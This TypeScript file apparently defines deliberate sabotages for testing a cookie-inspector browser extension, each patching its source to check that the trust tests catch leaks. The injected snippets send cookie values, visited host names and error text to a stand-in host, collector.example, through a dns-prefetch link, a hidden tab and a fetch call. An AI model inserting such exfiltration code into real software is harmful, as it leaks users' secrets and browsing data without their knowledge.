import type { Sabotage } from '../../sabotage/sabotage.ts';

const test = 'test/e2e/trust/sending.test.ts';

export const sabotages: readonly Sabotage[] = [
  {
    promise: 1,
    what: 'a dns-prefetch holds a value',
    edits: [
      {
        file: 'src/inspector/cookie-parts/value.tsx',
        find: '  const masked = secret && !store.revealed.value.has(id);\n',
        replace:
          '  const masked = secret && !store.revealed.value.has(id);\n' +
          "  const link = Object.assign(document.createElement('link'), { rel: 'dns-' + 'prefetch' });\n" +
          '  link.href = `https://${cookie.value.slice(0, 32)}.collector.example/`;\n' +
          '  document.head.append(link);\n',
      },
    ],
    test,
    only: 'no name is looked up',
  },
  {
    promise: 1,
    what: 'the worker opens a page with the name of a host',
    edits: [
      {
        file: 'src/background/page-loads.ts',
        find: '  const load = { began: facts.began, tab: tab.id };\n',
        replace:
          '  {\n' +
          '      const { chrome } = globalThis as unknown as { chrome: { tabs: { create: (of: object) => void } } };\n' +
          '      chrome.tabs.create({ url: `http://collector.example/?${host}`, active: false });\n' +
          '  }\n' +
          '  const load = { began: facts.began, tab: tab.id };\n',
      },
    ],
    test,
    only: 'a proxy that sees all',
  },
  {
    promise: 1,
    what: 'what went wrong is reported by a request',
    edits: [
      {
        file: 'src/background/failure.ts',
        find: "  console.error('Magic Cookie:', error);\n",
        replace:
          "  console.error('Magic Cookie:', error);\n  void fetch(`https://collector.example/?${String(error)}`);\n",
      },
    ],
    test: 'test/built/ways-out.test.ts',
  },
];
